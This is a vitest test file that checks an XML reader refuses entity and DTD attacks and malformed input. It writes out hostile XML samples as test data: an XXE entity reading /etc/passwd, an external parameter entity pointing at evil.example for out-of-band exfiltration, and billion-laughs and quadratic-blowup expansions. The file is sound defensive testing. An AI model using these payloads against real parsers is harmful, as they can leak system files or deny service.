import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { describe, expect, it } from "vitest";
import { Errors } from "../../errors/index.js";
import { readXml } from "./read-xml.js";
import { compileXmlLimits } from "./xml-limits.js";

function refusal(xml: string | Uint8Array, limits = compileXmlLimits()) {
  try {
    readXml(xml, { limits });
  } catch (e) {
    return e as { code: string; message: string; extras: Record<string, unknown> };
  }
  throw new Error("expected readXml to refuse the document");
}

describe("readXml refuses every entity and DTD attack, with a positioned error", () => {
  it("XXE: an external entity pointing at file:///etc/passwd", () => {
    const e = refusal(
      '<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<foo>&xxe;</foo>',
    );
    expect(e.code).toBe(Errors.XmlUnsafe.code);
    expect(e.extras).toMatchObject({ line: 2, column: 15 });
    expect(e.message).toContain("internal subset");
  });

  it("an external parameter entity (out-of-band exfiltration)", () => {
    const e = refusal('<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><foo/>');
    expect(e.code).toBe(Errors.XmlUnsafe.code);
  });

  it("billion laughs (nested entity expansion)", () => {
    const defs = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) defs.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? "" : i - 1};`.repeat(10)}">`);
    const e = refusal(`<?xml version="1.0"?><!DOCTYPE lolz [${defs.join("")}]><lolz>&lol9;</lolz>`);
    expect(e.code).toBe(Errors.XmlUnsafe.code);
  });

  it("quadratic blowup (one large entity referenced many times)", () => {
    const big = "a".repeat(50_000);
    const e = refusal(`<!DOCTYPE kaboom [<!ENTITY a "${big}">]><kaboom>${"&a;".repeat(50_000)}</kaboom>`);
    expect(e.code).toBe(Errors.XmlUnsafe.code);
  });

  it("an ENTITY declaration outside a DOCTYPE", () => {
    expect(refusal('<!ENTITY x "y"><a/>').code).toBe(Errors.XmlUnsafe.code);
  });

  it("a reference to an undeclared entity is malformed, never looked up", () => {
    const e = refusal("<a>\n  caf&eacute;</a>");
    expect(e.code).toBe(Errors.XmlMalformed.code);
    expect(e.extras).toMatchObject({ line: 2, column: 6 });
  });

  it("names that would pollute prototypes", () => {
    expect(refusal("<a><__proto__/></a>").code).toBe(Errors.XmlUnsafe.code);
    expect(refusal('<a constructor="x"/>').code).toBe(Errors.XmlUnsafe.code);
  });

  it("deep nesting beyond maxDepth", () => {
    const depth = 10_000;
    const e = refusal(`${"<a>".repeat(depth)}${"</a>".repeat(depth)}`);
    expect(e.code).toBe(Errors.XmlTooLarge.code);
    expect(e.extras).toMatchObject({ limit: "maxDepth", max: 64, offset: 64 * 3 });
  });

  it("documents over maxBytes, before anything is parsed", () => {
    const limits = compileXmlLimits({ maxBytes: 1024 });
    const e = refusal(`<a>${"x".repeat(2000)}</a>`, limits);
    expect(e.code).toBe(Errors.XmlTooLarge.code);
    expect(e.extras).toMatchObject({ limit: "maxBytes", max: 1024 });
    expect(refusal(new Uint8Array(2048).fill(0x20), limits).code).toBe(Errors.XmlTooLarge.code);
  });

  it("too many elements, attributes, or an overlong attribute or text", () => {
    const limits = compileXmlLimits({
      maxElements: 10,
      maxAttributesPerElement: 3,
      maxAttributeLength: 8,
      maxTextLength: 8,
    });
    expect(refusal(`<a>${"<b/>".repeat(10)}</a>`, limits).extras.limit).toBe("maxElements");
    expect(refusal('<a w="1" x="1" y="1" z="1"/>', limits).extras.limit).toBe("maxAttributesPerElement");
    expect(refusal('<a w="123456789"/>', limits).extras.limit).toBe("maxAttributeLength");
    expect(refusal("<a>123456789</a>", limits).extras.limit).toBe("maxTextLength");
    expect(refusal("<a><![CDATA[123456789]]></a>", limits).extras.limit).toBe("maxTextLength");
  });

  it("accepts a DOCTYPE naming an external DTD and never fetches it", async () => {
    let requests = 0;
    const server = createServer((_req, res) => {
      requests++;
      res.end('<!ENTITY x "fetched">');
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    const { port } = server.address() as AddressInfo;
    try {
      const doc = readXml(
        `<?xml version="1.0"?>\n<!DOCTYPE cXML SYSTEM "http://127.0.0.1:${port}/cXML.dtd">\n<cXML payloadID="1"/>`,
      );
      expect(doc.doctype).toEqual({ name: "cXML", systemId: `http://127.0.0.1:${port}/cXML.dtd` });
      const pub = readXml('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1/x.dtd"><html/>');
      expect(pub.doctype?.publicId).toBe("-//W3C//DTD XHTML 1.0//EN");
      await new Promise((r) => setTimeout(r, 50));
      expect(requests).toBe(0);
    } finally {
      await new Promise((r) => server.close(r));
    }
  });
});

describe("readXml refuses malformed documents with their position", () => {
  it.each([
    ["<a><b></a>", 1],
    ["<a></a><b/>", 1],
    ["<a>text", 1],
    ["<a x='1' x='2'/>", 1],
    ["<a><!-- open", 1],
    ["<a>x < y</a>", 1],
    ["<a>AT&T</a>", 1],
    ["", 1],
    ["just text", 1],
    ['<a b="1"c="2"/>', 1],
  ])("%j", (xml, line) => {
    const e = refusal(xml);
    expect(e.code).toBe(Errors.XmlMalformed.code);
    expect(e.extras.line).toBe(line);
    expect(typeof e.extras.offset).toBe("number");
  });

  it("bytes that are not UTF-8", () => {
    expect(refusal(new Uint8Array([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e])).code).toBe(
      Errors.XmlMalformed.code,
    );
  });
});
